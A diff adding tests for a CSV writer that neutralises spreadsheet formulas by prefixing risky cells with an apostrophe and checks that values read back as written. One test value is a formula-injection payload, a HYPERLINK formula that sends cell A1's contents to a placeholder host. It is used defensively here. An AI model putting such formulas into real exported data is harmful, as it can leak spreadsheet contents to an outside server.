@@ -1,0 +1,47 @@
+"""The one CSV writer: every text cell safe in a spreadsheet, every value read back as written."""
+
+from __future__ import annotations
+
+import csv
+
+import numpy as np
+import pandas as pd
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from geo._csv import FORMULA_START, safe_cell, write_csv
+
+
+def read_back(path, sep=","):
+    with path.open(encoding="utf-8", newline="") as fh:
+        return list(csv.reader(fh, delimiter=sep))
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r\n\";,'a1. é"), max_size=12),
+                min_size=1, max_size=20),
+       st.sampled_from([",", ";", "\t"]))
+def test_text_reads_back_as_written_or_with_an_apostrophe(tmp_path_factory, texts, sep):
+    path = tmp_path_factory.mktemp("csv") / "t.csv"
+    write_csv(pd.DataFrame({"value": texts, "n": range(len(texts))}), path, sep=sep)
+    rows = read_back(path, sep)
+    assert rows[0] == ["value", "n"] and len(rows) == len(texts) + 1
+    for i, ((value, n), text) in enumerate(zip(rows[1:], texts, strict=True)):
+        assert int(n) == i  # numbers as numbers, rows in order
+        shown, quoted = safe_cell(text)
+        assert value == shown
+        if quoted:  # the spreadsheet sees text: an apostrophe first, inside quotes
+            assert value == "'" + text and text.startswith(FORMULA_START)
+        else:
+            assert value == text
+
+
+def test_numbers_are_data_and_formulas_are_neutralised(tmp_path):
+    frame = pd.DataFrame({"row": [2, 3, 4], "lat": [-91.5, np.nan, 42.25],
+                          "value": ["-91.5", "=1+1", '=HYPERLINK("http://x"&A1)']})
+    path = write_csv(frame, tmp_path / "r.csv")
+    text = path.read_text(encoding="utf-8")
+    assert text.splitlines()[1] == "2,-91.5,-91.5"
+    assert text.splitlines()[2] == "3,,\"'=1+1\""
+    assert "\"'=HYPERLINK(\"\"http://x\"\"&A1)\"" in text
+    assert not list(tmp_path.glob(".*.part"))
